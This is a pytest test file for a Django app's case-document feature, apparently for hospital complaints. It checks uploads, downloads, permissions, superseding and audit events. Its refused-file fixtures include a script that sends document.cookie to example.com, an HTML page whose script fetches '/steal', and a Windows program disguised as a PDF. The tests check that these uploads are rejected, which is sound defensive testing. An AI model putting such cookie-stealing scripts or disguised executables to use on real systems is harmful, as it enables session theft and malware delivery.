"""A case's documents: adding each kind of file, refusing disguised ones, who may download or
supersede them, and that nothing is ever half-saved or deleted.

The files are real ones made by real writers (see careprog/tests/test_uploads.py), so what is
tested is what a ward's scanner, Word, Excel or Outlook would send.
"""

import functools
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from careprog.roles import Role
from careprog.tests.factories import UserFactory
from careprog.tests.test_uploads import (
    letter_doc,
    make_docx,
    make_eml,
    make_image,
    make_msg,
    make_pdf,
    make_xls,
    make_xlsx,
    windows_program,
)
from feedback.models import DocumentKind, FeedbackDocument
from feedback.services import documents as document_services
from feedback.services.base import ProcessError
from feedback.services.documents import document_add, document_download, document_supersede
from feedback.tests.factories import make_item

MB = 1024 * 1024

ALLOWED_FILES = {
    "letter.pdf": (make_pdf, "application/pdf"),
    "statement.docx": (
        make_docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "statement.doc": (letter_doc, "application/msword"),
    "timeline.xlsx": (
        make_xlsx,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "timeline.xls": (make_xls, "application/vnd.ms-excel"),
    "complaint.eml": (make_eml, "message/rfc822"),
    "complaint.msg": (make_msg, "application/vnd.ms-outlook"),
    "photo.png": (functools.partial(make_image, "PNG"), "image/png"),
    "consent.jpg": (functools.partial(make_image, "JPEG"), "image/jpeg"),
}

NOT_A_DOCUMENT = (
    "“{name}” is not a PDF, Word, Excel, email, PNG or JPEG file: its content is {what}. "
    "Files are checked by what is inside them, not by their name."
)
WEB_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
REFUSED_FILES = {
    "program named pdf": (
        "letter.pdf",
        windows_program,
        NOT_A_DOCUMENT.format(name="letter.pdf", what="a Windows program"),
    ),
    "web page named eml": (
        "complaint.eml",
        lambda: WEB_PAGE,
        NOT_A_DOCUMENT.format(name="complaint.eml", what="a web page (HTML)"),
    ),
    "script named docx": (
        "statement.docx",
        lambda: b"<script>document.location='https://example.com/?'+document.cookie</script>",
        NOT_A_DOCUMENT.format(name="statement.docx", what="a web page (HTML)"),
    ),
    "empty": ("blank.pdf", lambda: b"", "“blank.pdf” is empty."),
    "over 20 MB": (
        "scan.pdf",
        # A real PDF's start, then padding: the size is what is refused, before it is read.
        lambda: make_pdf() + bytes(20 * MB + 1 - len(make_pdf())),
        "“scan.pdf” is 20.1 MB: each file must be 20 MB or smaller.",
    ),
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media: Path) -> list[Path]:
    return sorted(path for path in Path(media).rglob("*") if path.is_file())


@pytest.fixture
def complaint(medicine, pals_officer):
    return make_item(csc=medicine, by=pals_officer, summary="Medicine complaint")


@pytest.fixture
def surgery_manager(surgery):
    return UserFactory(role=Role.CSC_MANAGER, cscs=[surgery])


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # The browser's content type is never trusted; send the least helpful one.
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def add(item, by, name="letter.pdf", content=None, kind=DocumentKind.RECEIVED, **extra):
    content = make_pdf() if content is None else content
    return document_add(item=item, by=by, upload=upload(name, content), kind=kind, **extra)


def url(name: str, item, *args) -> str:
    return reverse(f"feedback:{name}", args=[item.reference_slug, *args])


def post_file(client, item, name: str, content: bytes, kind=DocumentKind.RECEIVED, **data):
    return client.post(
        url("add_document", item),
        {"file": upload(name, content), "kind": kind, **data},
    )


def events(item, action: str):
    return list(item.events.filter(action=action).select_related("by"))


class TestAddingDocuments:
    @pytest.mark.parametrize("name", ALLOWED_FILES)
    def test_each_allowed_type_is_stored_and_listed(
        self, client, complaint, medicine_manager, media, name
    ):
        make, content_type = ALLOWED_FILES[name]
        content = make()
        client.force_login(medicine_manager)
        response = post_file(client, complaint, name, content, description="From the family")
        assert response.status_code == 302, response.context["form"].errors
        assert response.url == url("detail", complaint)
        document = FeedbackDocument.objects.get()
        assert (document.item, document.uploaded_by) == (complaint, medicine_manager)
        assert (document.file_name, document.file_size) == (name, len(content))
        assert document.file_type == content_type
        assert document.description == "From the family"
        [stored] = stored_files(media)
        assert stored.read_bytes() == content
        assert stored.parent == Path(media) / "feedback" / "documents" / "med"
        [event] = events(complaint, "document added")
        assert event.by == medicine_manager
        assert name in event.description
        page = client.get(url("detail", complaint)).text
        assert name in page
        assert url("download_document", complaint, document.pk) in page

    def test_the_stored_name_is_random_with_the_extension_the_content_has(
        self, complaint, pals_officer
    ):
        document = add(complaint, pals_officer, name="Mrs Smith letter.jpg", content=make_pdf())
        stored = Path(document.file.name)
        assert "Smith" not in stored.name
        assert stored.suffix == ".pdf"
        assert len(stored.stem) == 32

    @pytest.mark.parametrize("case", REFUSED_FILES)
    def test_a_refused_file_is_named_in_the_message_and_nothing_is_saved(
        self, client, complaint, pals_officer, media, case
    ):
        name, make, message = REFUSED_FILES[case]
        events_before = complaint.events.count()
        client.force_login(pals_officer)
        response = post_file(client, complaint, name, make())
        assert response.status_code == 200
        assert response.context["form"].errors == {"file": [message]}
        assert "There is a problem" in response.text
        assert not FeedbackDocument.objects.exists()
        assert stored_files(media) == []
        assert complaint.events.count() == events_before

    @pytest.mark.parametrize("case", REFUSED_FILES)
    def test_the_service_refuses_the_same_files_itself(self, complaint, pals_officer, media, case):
        name, make, message = REFUSED_FILES[case]
        with pytest.raises(ProcessError) as caught:
            add(complaint, pals_officer, name=name, content=make())
        assert caught.value.message_dict == {"file": [message]}
        assert not FeedbackDocument.objects.exists()
        assert stored_files(media) == []

    def test_a_file_of_exactly_20_mb_is_accepted(self, complaint, pals_officer):
        content = make_pdf() + bytes(20 * MB - len(make_pdf()))
        assert add(complaint, pals_officer, content=content).file_size == 20 * MB

    def test_a_document_without_a_kind_is_refused(self, client, complaint, pals_officer, media):
        client.force_login(pals_officer)
        response = post_file(client, complaint, "letter.pdf", make_pdf(), kind="")
        assert response.context["form"].errors == {"kind": ["Choose what kind of document this is"]}
        assert stored_files(media) == []
        with pytest.raises(ProcessError):
            add(complaint, pals_officer, kind="passport")
        assert stored_files(media) == []

    def test_the_file_is_removed_if_recording_it_fails(
        self, complaint, pals_officer, media, monkeypatch
    ):
        def broken(*args, **kwargs):
            raise RuntimeError("database went away")

        monkeypatch.setattr(document_services, "record_event", broken)
        with pytest.raises(RuntimeError):
            add(complaint, pals_officer)
        assert not FeedbackDocument.objects.exists()
        assert stored_files(media) == []

    def test_the_upload_page_is_a_multipart_form_with_the_kinds(
        self, client, complaint, pals_officer
    ):
        client.force_login(pals_officer)
        page = client.get(url("add_document", complaint)).text
        assert 'enctype="multipart/form-data"' in page
        assert 'accept=".pdf,.doc,.docx,.xls,.xlsx,.eml,.msg,.png,.jpg,.jpeg"' in page
        for value, label in DocumentKind.choices:
            if value == DocumentKind.FINAL_RESPONSE:
                # Produced under Letters from the signed-off draft, never uploaded.
                assert f'value="{value}"' not in page
            else:
                assert label in page


class TestWhoMayAddDocuments:
    @pytest.mark.parametrize(
        ("role", "status"),
        [
            (Role.PALS_OFFICER, 200),
            (Role.ADMINISTRATOR, 200),
            (Role.CSC_MANAGER, 200),  # of the item's CSC, Medicine
            (Role.BOARD_MEMBER, 404),
            (Role.AWARDS_PANEL_MEMBER, 404),
            (None, 404),
        ],
        ids=lambda value: getattr(value, "value", str(value)),
    )
    def test_the_upload_page_opens_only_for_those_who_run_the_case(
        self, client, complaint, user_with_role, role, status
    ):
        client.force_login(user_with_role(role))
        assert client.get(url("add_document", complaint)).status_code == status

    def test_a_manager_of_another_csc_gets_404_and_nothing_is_saved(
        self, client, complaint, surgery_manager, media
    ):
        client.force_login(surgery_manager)
        response = post_file(client, complaint, "letter.pdf", make_pdf())
        assert response.status_code == 404
        assert not FeedbackDocument.objects.exists()
        assert stored_files(media) == []

    def test_a_board_member_cannot_add_a_document(self, client, complaint, board_member, media):
        client.force_login(board_member)
        assert post_file(client, complaint, "letter.pdf", make_pdf()).status_code == 404
        assert not FeedbackDocument.objects.exists()
        assert stored_files(media) == []

    def test_an_anonymous_visitor_is_sent_to_sign_in(self, client, complaint, media):
        response = post_file(client, complaint, "letter.pdf", make_pdf())
        assert response.status_code == 302
        assert response.url.startswith(reverse("login"))
        assert stored_files(media) == []

    @pytest.mark.parametrize(
        "permission",
        ["feedback.add_document", "feedback.view_documents", "feedback.supersede_document"],
    )
    def test_the_rules_allow_the_case_team_and_refuse_everyone_else(
        self, complaint, user_with_role, surgery_manager, permission
    ):
        allowed = {Role.PALS_OFFICER, Role.ADMINISTRATOR, Role.CSC_MANAGER}
        for role in [*Role, None]:
            user = user_with_role(role)
            assert user.has_perm(permission, complaint) == (role in allowed), role
        assert not surgery_manager.has_perm(permission, complaint)


class TestDownloading:
    def test_the_items_csc_manager_downloads_the_file_and_it_is_recorded(
        self, client, complaint, pals_officer, medicine_manager
    ):
        content = make_docx()
        document = add(complaint, pals_officer, name="Ward sister statement.docx", content=content)
        client.force_login(medicine_manager)
        response = client.get(url("download_document", complaint, document.pk))
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == content
        assert response["Content-Type"] == document.file_type
        assert response["Content-Disposition"] == (
            'attachment; filename="Ward sister statement.docx"'
        )
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in response["Cache-Control"]
        [event] = events(complaint, "document downloaded")
        assert event.by == medicine_manager
        assert "Ward sister statement.docx" in event.description

    def test_the_name_offered_has_the_extension_of_what_the_file_is(
        self, client, complaint, pals_officer
    ):
        document = add(complaint, pals_officer, name="scan.jpg", content=make_pdf())
        client.force_login(pals_officer)
        response = client.get(url("download_document", complaint, document.pk))
        assert response["Content-Disposition"] == 'attachment; filename="scan.pdf"'
        assert response["Content-Type"] == "application/pdf"

    def test_a_manager_of_another_csc_gets_404_and_nothing_is_recorded(
        self, client, complaint, pals_officer, surgery_manager
    ):
        document = add(complaint, pals_officer)
        client.force_login(surgery_manager)
        response = client.get(url("download_document", complaint, document.pk))
        assert response.status_code == 404
        assert events(complaint, "document downloaded") == []

    def test_a_document_asked_for_through_another_item_is_404(
        self, client, complaint, surgery, pals_officer, medicine_manager
    ):
        elsewhere = make_item(csc=surgery, by=pals_officer, summary="Surgery complaint")
        document = add(elsewhere, pals_officer)
        client.force_login(medicine_manager)
        response = client.get(url("download_document", complaint, document.pk))
        assert response.status_code == 404
        assert events(elsewhere, "document downloaded") == []

    @pytest.mark.parametrize("role", [Role.BOARD_MEMBER, Role.AWARDS_PANEL_MEMBER, None])
    def test_roles_that_see_no_items_get_404(
        self, client, complaint, pals_officer, user_with_role, role
    ):
        # The permission module gives them no document rule, and they see no item at all.
        document = add(complaint, pals_officer)
        client.force_login(user_with_role(role))
        assert client.get(url("download_document", complaint, document.pk)).status_code == 404
        assert events(complaint, "document downloaded") == []

    def test_a_file_missing_from_storage_is_404_and_not_recorded(
        self, client, complaint, pals_officer
    ):
        document = add(complaint, pals_officer)
        Path(document.file.path).unlink()
        client.force_login(pals_officer)
        assert client.get(url("download_document", complaint, document.pk)).status_code == 404
        assert events(complaint, "document downloaded") == []

    def test_download_is_a_get_only(self, client, complaint, pals_officer):
        document = add(complaint, pals_officer)
        client.force_login(pals_officer)
        response = client.post(url("download_document", complaint, document.pk))
        assert response.status_code == 405

    def test_the_service_returns_the_file_and_records_who_opened_it(
        self, complaint, pals_officer, medicine_manager
    ):
        document = add(complaint, pals_officer, content=make_pdf())
        with document_download(document=document, by=medicine_manager) as handle:
            assert handle.read() == make_pdf()
        [event] = events(complaint, "document downloaded")
        assert event.by == medicine_manager


class TestSuperseding:
    def test_superseding_keeps_the_row_and_the_file_and_records_who_and_why(
        self, client, complaint, pals_officer, medicine_manager, media
    ):
        document = add(complaint, pals_officer, name="draft.docx", content=make_docx())
        client.force_login(medicine_manager)
        assert client.get(url("supersede_document", complaint, document.pk)).status_code == 200
        response = client.post(
            url("supersede_document", complaint, document.pk),
            {"reason": "Replaced by the signed copy"},
        )
        assert response.status_code == 302
        document.refresh_from_db()
        assert document.superseded_by == medicine_manager
        assert document.superseded_at is not None
        assert document.superseded_reason == "Replaced by the signed copy"
        assert len(stored_files(media)) == 1
        assert Path(document.file.path).exists()
        [event] = events(complaint, "document superseded")
        assert event.by == medicine_manager
        assert "Replaced by the signed copy" in event.description
        page = client.get(url("detail", complaint)).text
        assert "Superseded: Replaced by the signed copy" in page
        assert url("supersede_document", complaint, document.pk) not in page
        # Kept with the case, so still there to open.
        download = client.get(url("download_document", complaint, document.pk))
        assert download.status_code == 200

    def test_superseding_twice_is_refused(self, complaint, pals_officer):
        document = add(complaint, pals_officer, name="draft.pdf")
        document_supersede(document=document, by=pals_officer, reason="Replaced")
        with pytest.raises(ProcessError) as caught:
            document_supersede(document=document, by=pals_officer, reason="Again")
        assert caught.value.code == "superseded"
        assert caught.value.messages[0].startswith("draft.pdf was already superseded on ")
        document.refresh_from_db()
        assert document.superseded_reason == "Replaced"
        assert len(events(complaint, "document superseded")) == 1

    def test_superseding_twice_through_the_page_shows_why_not(
        self, client, complaint, pals_officer
    ):
        document = add(complaint, pals_officer, name="draft.pdf")
        document_supersede(document=document, by=pals_officer, reason="Replaced")
        client.force_login(pals_officer)
        response = client.post(
            url("supersede_document", complaint, document.pk), {"reason": "Again"}
        )
        assert response.status_code == 200
        assert "draft.pdf was already superseded on " in response.text
        # Opening the page for one already superseded goes back to the case.
        again = client.get(url("supersede_document", complaint, document.pk))
        assert again.status_code == 302

    @pytest.mark.parametrize("reason", ["", "   \n "])
    def test_a_blank_reason_is_refused(self, client, complaint, pals_officer, reason):
        document = add(complaint, pals_officer)
        with pytest.raises(ProcessError) as caught:
            document_supersede(document=document, by=pals_officer, reason=reason)
        assert caught.value.message_dict == {
            "reason": ["Say why this document is being superseded"]
        }
        client.force_login(pals_officer)
        response = client.post(
            url("supersede_document", complaint, document.pk), {"reason": reason}
        )
        assert response.status_code == 200
        assert response.context["form"].errors == {
            "reason": ["Say why this document is being superseded"]
        }
        document.refresh_from_db()
        assert document.superseded_at is None
        assert events(complaint, "document superseded") == []

    def test_a_manager_of_another_csc_gets_404_and_nothing_changes(
        self, client, complaint, pals_officer, surgery_manager
    ):
        document = add(complaint, pals_officer)
        client.force_login(surgery_manager)
        response = client.post(
            url("supersede_document", complaint, document.pk), {"reason": "Not mine"}
        )
        assert response.status_code == 404
        document.refresh_from_db()
        assert document.superseded_at is None

    def test_documents_are_never_deleted_in_bulk(self, complaint, pals_officer):
        add(complaint, pals_officer)
        with pytest.raises(Exception, match="never deleted"):
            FeedbackDocument.objects.all().delete()


class TestDetailPage:
    def test_a_case_without_documents_says_so_and_offers_to_add_one(
        self, client, complaint, medicine_manager
    ):
        client.force_login(medicine_manager)
        page = client.get(url("detail", complaint)).text
        assert "No documents yet." in page
        assert url("add_document", complaint) in page

    def test_the_query_count_does_not_grow_with_the_documents(
        self, client, complaint, pals_officer, medicine_manager
    ):
        def measure() -> int:
            with CaptureQueriesContext(connection) as captured:
                response = client.get(url("detail", complaint))
                assert response.status_code == 200
            return len(captured)

        client.force_login(medicine_manager)
        # Superseded, so the few already fetch who superseded it: a page with no superseded
        # document skips that query, which would hide nothing but would not compare like for like.
        first = add(complaint, pals_officer, name="first.pdf")
        document_supersede(document=first, by=pals_officer, reason="Replaced")
        client.get(url("detail", complaint))  # the session and user, read once
        few = measure()
        other = UserFactory(role=Role.ADMINISTRATOR)
        for number in range(4):
            later = add(complaint, other if number % 2 else pals_officer, name=f"{number}.pdf")
            if number == 3:
                document_supersede(document=later, by=other, reason="Replaced too")
        many = measure()
        assert many == few
